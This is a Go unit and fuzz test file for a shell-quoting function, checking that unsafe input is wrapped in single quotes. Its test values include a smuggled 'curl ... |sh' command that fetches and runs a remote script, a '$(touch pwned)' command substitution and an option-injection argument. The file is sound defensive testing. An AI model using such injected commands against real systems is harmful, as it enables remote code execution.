package shell

import (
	"os/exec"
	"strings"
	"testing"
)

func TestQuote(t *testing.T) {
	for in, want := range map[string]string{
		"":                            "''",
		"httpbin.bar:8000/ip":         "httpbin.bar:8000/ip",
		"app=web,version=v1":          "app=web,version=v1",
		"=ls":                         "'=ls'",
		"~root":                       "'~root'",
		"it's":                        `'it'\''s'`,
		"x; curl http://e/i.sh|sh #":  "'x; curl http://e/i.sh|sh #'",
		"app=$(touch pwned)":          "'app=$(touch pwned)'",
		"a\nb":                        "'a\nb'",
		"ürlich":                      "'ürlich'",
		"{a,b}":                       "'{a,b}'",
		"authorizationpolicy/bar/x y": "'authorizationpolicy/bar/x y'",
	} {
		if got := Quote(in); got != want {
			t.Errorf("%q: %s, want %s", in, got, want)
		}
	}
	if got := Argument("-f http://e"); got != "-- '-f http://e'" {
		t.Error(got)
	}
	if got := Argument("name"); got != "name" {
		t.Error(got)
	}
}

// A real shell takes a quoted word for what it was.
func FuzzQuote(f *testing.F) {
	sh, err := exec.LookPath("sh")
	if err != nil {
		f.Fatal(err)
	}
	for _, s := range []string{"x", "a b", "'", `\`, "$(x)", "`x`", "!!", "*", "~", "-n", "\n", "\x01", "a=b"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, word string) {
		if strings.ContainsRune(word, 0) {
			return // no argument of a process has it
		}
		out, err := exec.Command(sh, "-c", "printf %s. "+Quote(word)).Output()
		if err != nil || string(out) != word+"." {
			t.Errorf("%q: %q, %v", word, out, err)
		}
	})
}
